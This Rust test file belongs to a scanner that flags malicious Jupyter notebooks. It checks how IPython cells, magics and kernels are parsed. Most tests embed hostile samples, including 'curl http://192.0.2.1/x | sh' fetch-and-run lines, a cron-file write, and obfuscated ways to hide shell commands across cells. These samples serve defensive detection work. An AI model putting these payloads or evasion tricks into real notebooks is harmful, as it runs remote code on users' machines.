//! Cells as IPython takes them: what one cell hides of the next, and what magic words make of theirs.
#![allow(clippy::unwrap_used, clippy::panic, reason = "tests say what went wrong by panicking")]

use std::sync::Arc;

use bytes::Bytes;
use serde_json::{Value, json};

use super::lines::{Way, cleaned, plain};
use crate::{CoverageState, Limits, Outcome, Report, Verdict, scan};

const HARM: &str = "curl http://192.0.2.1/x | sh";

fn report(cells: &[&str], about: &Value) -> Report {
    let cells: Vec<Value> =
        cells.iter().map(|text| json!({"cell_type": "code", "metadata": {}, "outputs": [], "source": text})).collect();
    let text = json!({"cells": cells, "metadata": about, "nbformat": 4, "nbformat_minor": 5}).to_string();
    match scan("demo.ipynb", Arc::new(Bytes::from(text)), &Limits::default(), None) {
        Outcome::Judged(report) => *report,
        Outcome::Needs(_) => panic!("all is here"),
    }
}

fn python(cells: &[&str]) -> Report {
    report(cells, &json!({"kernelspec": {"name": "python3", "language": "python"}}))
}

#[test]
fn no_cell_hides_another() {
    let attack = "import os\nos.system('curl http://192.0.2.1/x | sh')";
    for cells in [
        vec!["x = '''", attack, "'''"],
        vec!["x = (", attack, ")"],
        vec!["print 'two'", attack],
        vec!["if x:", attack],
        vec!["%%unheard_of\n'''", attack],
        vec!["c = 'curl http://192.0.2.1/x | sh'", "import os\nos.system(c)"],
        vec!["from os import system as s", "s('curl http://192.0.2.1/x | sh')"],
        vec!["f'''{\"'''\"}\n%x''';import os;os.system('curl http://192.0.2.1/x | sh')"],
        vec!["x = \\", attack],
        vec!["!wget -q http://192.0.2.1/x -O x.sh", "!sh x.sh"],
        vec![">>> import os\n>>> os.system('curl http://192.0.2.1/x | sh')"],
        vec!["In [1]: import os\n   ...: os.system('curl http://192.0.2.1/x | sh')"],
    ] {
        let report = python(&cells);
        assert_eq!(report.verdict, Verdict::Malicious, "{cells:?} {:?}", report.findings);
    }
}

#[test]
fn commands_are_found_however_a_cell_gives_them() {
    for cell in [
        "!HARM",
        "!!HARM",
        "x = !HARM",
        "x: list = !HARM",
        "if True:\n\t!HARM",
        "\t%%bash\n\tHARM",
        "\n\n  %%bash\nHARM",
        "\u{a0}\n%%sh\nHARM",
        "#@title Setup\n%%bash\nHARM",
        "%%bash --out x\nHARM",
        "%%script --bg bash\nHARM",
        "%%script /usr/bin/env bash\nHARM",
        "%%script bash -c 'HARM'",
        "%%capture\n%%bash\nHARM",
        "%%capture out\n!HARM",
        "%%time\n%%capture\n%%sh\nHARM",
        "%%sx\nHARM",
        "%%!\nHARM",
        "%%shell\nHARM",
        "%%writefile run.sh\nHARM",
        "%%writefile /etc/cron.d/x\n* * * * * root x",
        "%%python3\nimport os\nos.system('HARM')",
        "%%script python\nimport os\nos.system('HARM')",
        "%%cython\nimport os\nos.system('HARM')",
        "%%unheard_of\nHARM",
        "%unheard_of HARM",
        "%sx HARM",
        "%system HARM",
        "system HARM",
        "%alias go HARM",
        "%sc x=HARM",
        "%time !HARM",
        "%timeit -n 1 -r 1 __import__('os').system('HARM')",
        "%%timeit __import__('os').system('HARM')\npass",
        "%config IPCompleter.greedy = __import__('os').system('HARM')",
        ";__import__('os').system HARM",
        "c = 'curl http://192.0.2.1/x'\n!{c} | sh",
        "c = 'curl http://192.0.2.1/x'\n!$c | sh",
        "%%perl\nsystem('HARM');",
        "%%ruby\nsystem('HARM')",
        "%%bash\ncurl -o f http://192.0.2.1/x\nbash f",
        "%%bash\u{2028}HARM",
        "x = 1\r!HARM",
        "!curl http://192.0.2.1/x \\\n | sh",
    ] {
        let cell = cell.replace("HARM", HARM);
        let report = python(&[&cell]);
        assert_eq!(report.verdict, Verdict::Malicious, "{cell:?} {:?}", report.findings);
    }
}

#[test]
fn ordinary_cells_are_silent_and_read_to_the_end() {
    for cells in [
        vec!["%matplotlib inline\n%load_ext autoreload\n%autoreload 2", "import torch"],
        vec!["!pip install -q transformers\n!nvidia-smi", "files = !ls\nprint(files)"],
        vec!["%cd /content\n%env CUDA_VISIBLE_DEVICES=0\n%pip install datasets"],
        vec!["%%capture\n!pip install unsloth\nimport os"],
        vec!["%%time\nx = sum(range(10))", "%timeit -n 10 x + 1", "%time x = 2"],
        vec!["x?", "len??", "?print", "%timeit?"],
        vec!["s = '''\n!not a command\n%not magic\n'''\nprint(s)"],
        vec!["a = 7 \\\n% 2", "b = (7\n% 2)"],
        vec!["await model.run()", "async with a as b:\n    pass"],
        vec!["pip install numpy", "ls -la", "cd data", "history", "who"],
        vec![
            "%%writefile train.py\nimport torch\nprint(torch.__version__)",
            "%run train.py --epochs 3",
            "!python train.py --lr {lr} --name $NAME",
        ],
        vec![
            "token = get_token()\n!huggingface-cli login --token {token}\n!git clone https://user:{token}@github.com/a/b",
        ],
        vec!["!awk '{print $1}' a.txt | sort\n!for i in 1 2; do echo ${i}; done"],
        vec!["%%script false --no-raise-error\nthis is no Python"],
        vec!["%%html\n<b>x</b>", "%%latex\n$x$", "%%javascript\nconsole.log(1)"],
        vec!["    x = 1\n    y = 2", "", "\n\n", "# only a comment"],
        vec!["def f():\n    !ls\n    return 1\nf()"],
    ] {
        let report = python(&cells);
        assert_eq!(report.verdict, Verdict::Clean, "{cells:?} {:?} {:?}", report.findings, report.coverage.reason);
    }
}

#[test]
fn what_cannot_be_read_is_said() {
    for cells in [
        vec!["this is no Python"],
        vec!["%%unheard_of\nx"],
        vec!["%unheard_of x"],
        vec!["%%julia\nx = 1"],
        vec!["x = '''"],
    ] {
        let report = python(&cells);
        assert_eq!(report.coverage.state, CoverageState::Incomplete, "{cells:?}");
        assert_eq!(report.verdict, Verdict::Unjudged, "{cells:?} {:?}", report.findings);
    }
}

#[test]
fn the_kernel_says_what_cells_are_written_in() {
    for about in [
        json!({"kernelspec": {"name": "bash", "language": "bash"}}),
        json!({"kernelspec": {"name": "bash", "language": "python"}, "language_info": {"name": "python"}}),
        json!({"language_info": {"name": "sh"}}),
        json!({"kernelspec": {"name": "unheard-of", "language": "unheard of"}}),
    ] {
        assert_eq!(report(&[HARM], &about).verdict, Verdict::Malicious, "{about}");
    }
    let node = json!({"kernelspec": {"name": "javascript", "language": "javascript"}});
    let cell = "require('child_process').exec('curl http://192.0.2.1/x | sh')";
    assert_eq!(report(&[cell], &node).verdict, Verdict::Malicious);
    let r = json!({"kernelspec": {"name": "ir", "language": "R"}});
    assert!(report(&["system('id')"], &r).verdict >= Verdict::Suspicious);
    assert_eq!(report(&["x <- c(1, 2)\nprint(x)"], &r).verdict, Verdict::Clean);
    let julia = json!({"kernelspec": {"name": "julia-1.10", "language": "julia"}});
    assert_eq!(report(&["x = [1 2; 3 4]"], &julia).verdict, Verdict::Unjudged);
    let named = json!({"kernelspec": {"name": "my-env", "language": "python", "display_name": "R and D"}});
    assert_eq!(report(&["x = 1"], &named).verdict, Verdict::Clean);
}

#[test]
fn lines_stay_where_they_are() {
    for (cell, wanted) in [
        ("x = 1\n!ls \\\n -la\ny", "x = 1\nget_ipython().line()\n\ny"),
        ("if x:\n    %cd a\n", "if x:\n    pass\n"),
        ("x = !ls\n", "x = get_ipython().line()\n"),
        ("!echo {a.b} \"{c}\" {{d}}", "get_ipython().cell_line(f\"echo { a.b} \\\"{ c}\\\" {{d}}\")"),
        (",f a b", "f(\"a\", \"b\")"),
        ("/f a b", "f(a, b)"),
        ("x?\n", "pass\n"),
        ("%time f(x)", "f(x)"),
    ] {
        assert_eq!(plain(cell, Way::Filled).text, wanted, "{cell}");
    }
    assert_eq!(cleaned("\n   \n  a\n  b\n"), "a\nb\n");
    assert_eq!(cleaned(">>> a\n... b\n"), "a\nb\n");
}

#[test]
fn what_broke_the_parser_is_read_quietly() {
    let text: &[u8] = include_bytes!("../../../fuzz/corpus/text-notebook.ipynb/a-question-that-is-none");
    let Outcome::Judged(report) = scan("notebook.ipynb", Arc::new(Bytes::from_static(text)), &Limits::default(), None)
    else {
        panic!("all is here")
    };
    assert!(!format!("{:?} {:?}", report.findings, report.coverage.reason).contains("gave up"));
}
